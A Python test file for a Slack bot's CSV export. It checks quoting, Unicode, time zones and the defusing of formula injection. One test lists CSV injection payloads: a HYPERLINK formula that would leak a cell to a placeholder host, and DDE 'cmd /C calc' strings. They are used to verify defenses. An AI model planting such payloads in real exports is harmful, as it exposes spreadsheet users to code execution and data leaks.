"""The CSV export, written by the database (COPY on PostgreSQL, SQL on SQLite), on both."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

from sqlalchemy import text

from bot.app.export import EXPORT_COLUMNS, write_csv, write_json
from bot.core.cycles import Cycle
from bot.core.messages import Place
from bot.wiring import Runtime
from tests.fakes import add_case

CYCLE = Cycle("2026Q4", date(2026, 10, 1), date(2026, 12, 31))
DAY = date(2026, 11, 23)
STORIES = [
    "plain story, with a comma",
    'she said "customer first" twice',
    "line one\nline two\r\nline three",
    "客户第一：周末回访三位老客户 👨‍👩‍👧",
    "  leading and trailing spaces  ",
    'ends with a quote"',
    "\\. alone on a line is COPY's end marker\n\\.",
    "x",
]


def _store(runtime: Runtime) -> None:
    for n, story in enumerate(STORIES):
        add_case(
            runtime.repo, Place("slack", "T1", f"C{n % 3}"), message=f"m{n}",
            nominee=f"slack:U{n}", nominator="slack:UB", story=story, day=DAY,
            now=datetime(2026, 11, 23, 2, 0, n * 7, n * 1000, tzinfo=UTC),
        )  # fmt: skip


def _exported(runtime: Runtime) -> str:
    out = io.StringIO()
    assert write_csv(out, runtime, "console:boss", CYCLE) == len(STORIES)
    return out.getvalue()


def test_the_csv_holds_every_case_as_the_json_export_does(runtime: Runtime):
    _store(runtime)

    text = _exported(runtime)
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    out = io.StringIO()
    write_json(out, runtime.service.reading.export("console:boss", CYCLE), CYCLE.id, runtime)
    expected = [[str(row[c]) for c in EXPORT_COLUMNS] for row in json.loads(out.getvalue())]

    assert text.startswith("\ufeff")
    assert rows[0] == list(EXPORT_COLUMNS)
    assert rows[1:] == expected
    assert [row[9] for row in rows[1:]] == STORIES
    assert all(isinstance(row["level"], int) for row in json.loads(out.getvalue()))
    first = dict(zip(EXPORT_COLUMNS, rows[1], strict=True))
    assert (first["value"], first["level"], first["criterion"]) == (
        "customer-first", "1", runtime.rubric.criterion("customer-first:1").title_zh,
    )  # fmt: skip
    assert (first["nominated_on"], first["created_at"]) == (
        "2026-11-23",
        "2026-11-23T10:00:00+08:00",  # the cycle's time zone (BOT_TIMEZONE)
    )


def test_the_csv_is_byte_for_byte_what_pythons_csv_module_writes(runtime: Runtime):
    """Quoting only where needed, quotes doubled, line breaks kept inside quotes, LF rows.

    (One difference is allowed by CSV and cannot occur here: COPY quotes a field that is
    exactly `\\.`; no id, date or story of ten characters or more is.)
    """
    _store(runtime)

    text = _exported(runtime).removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    again = io.StringIO()
    csv.writer(again, lineterminator="\n").writerows(rows)

    assert text == again.getvalue()


def test_a_criterion_no_longer_in_the_rubric_is_still_exported(runtime: Runtime):
    add_case(
        runtime.repo, Place("slack", "T1", "C1"), message="m1", nominee="slack:U1",
        nominator="slack:U2", story="a story from an older rubric", day=DAY,
        now=datetime(2026, 11, 23, 2, tzinfo=UTC),
    )  # fmt: skip
    with runtime.repo.engine.begin() as connection:
        connection.execute(text("UPDATE evidence SET criterion_key = 'old-value:4'"))

    [row] = list(csv.DictReader(io.StringIO(_exported_one(runtime))))
    assert (row["value"], row["level"], row["criterion"]) == ("old-value", "4", "")


def _exported_one(runtime: Runtime) -> str:
    out = io.StringIO()
    assert write_csv(out, runtime, "console:boss", CYCLE) == 1
    return out.getvalue().removeprefix("\ufeff")


def test_an_empty_cycle_exports_the_header_alone(runtime: Runtime):
    out = io.StringIO()

    assert write_csv(out, runtime, "console:boss", CYCLE) == 0
    assert out.getvalue() == "\ufeff" + ",".join(EXPORT_COLUMNS) + "\n"


FORMULAS = [
    '=HYPERLINK("http://x/?"&B2,"bonus")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 led by a tab",
    "\r=1+1 led by a carriage return",
]


def test_no_exported_cell_runs_as_a_formula_in_excel(runtime: Runtime):
    """Stories, names, channels and ids that begin like a formula get a leading quote."""
    for n, story in enumerate(FORMULAS):
        add_case(
            runtime.repo, Place("slack", "T1", f"=C{n}"), message=f"+m{n}",
            nominee=f"=slack:U{n}", nominator="@slack:UB", story=story, day=DAY,
            now=datetime(2026, 11, 23, 2, 0, n, tzinfo=UTC),
        )  # fmt: skip
    out = io.StringIO()
    assert write_csv(out, runtime, "console:boss", CYCLE) == len(FORMULAS)
    rows = list(csv.reader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))[1:]
    assert [row[9] for row in rows] == ["'" + story for story in FORMULAS]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row[2].startswith("'=slack:U") and row[4] == "'@slack:UB"
        assert row[12].startswith("'=C") and row[13].startswith("'+m")


def test_a_cycle_named_like_a_formula_is_defused_too(runtime: Runtime):
    add_case(
        runtime.repo, Place("slack", "T1", "C1"), message="m1", nominee="slack:U1",
        nominator="slack:UB", story="an honest story", day=DAY,
        now=datetime(2026, 11, 23, 2, 0, tzinfo=UTC),
    )  # fmt: skip
    out = io.StringIO()
    write_csv(out, runtime, "console:boss", Cycle("-1+1", CYCLE.starts_on, CYCLE.ends_on))
    [row] = list(csv.reader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))[1:]
    assert row[0] == "'-1+1" and row[9] == "an honest story"


def test_times_follow_a_daylight_saving_zone_across_its_changes(repo, clock):
    """Europe/Berlin: the database writes each moment with the offset of its own date, as
    Python's isoformat does, on both sides of both 2026 changes."""
    from bot.config import Settings
    from bot.wiring import build

    moments = [
        datetime(2026, 3, 29, 0, 59, 59, tzinfo=UTC),
        datetime(2026, 3, 29, 1, 0, 0, tzinfo=UTC),
        datetime(2026, 10, 25, 0, 59, 0, 999999, tzinfo=UTC),
        datetime(2026, 10, 25, 1, 0, 1, tzinfo=UTC),
    ]
    for n, moment in enumerate(moments):
        add_case(
            repo, Place("slack", "T1", "C1"), message=f"m{n}", nominee=f"slack:U{n}",
            nominator="slack:UB", story="a story long enough", day=moment.date(), now=moment,
        )  # fmt: skip
    berlin = build(Settings(timezone="Europe/Berlin"), clock=clock, repo=repo)
    out = io.StringIO()
    write_csv(out, berlin, "console:boss", Cycle("2026", date(2026, 1, 1), date(2026, 12, 31)))
    rows = list(csv.DictReader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))

    assert [r["created_at"] for r in rows] == [
        "2026-03-29T01:59:59+01:00",
        "2026-03-29T03:00:00+02:00",
        "2026-10-25T02:59:00.999999+02:00",
        "2026-10-25T02:00:01+01:00",
    ]
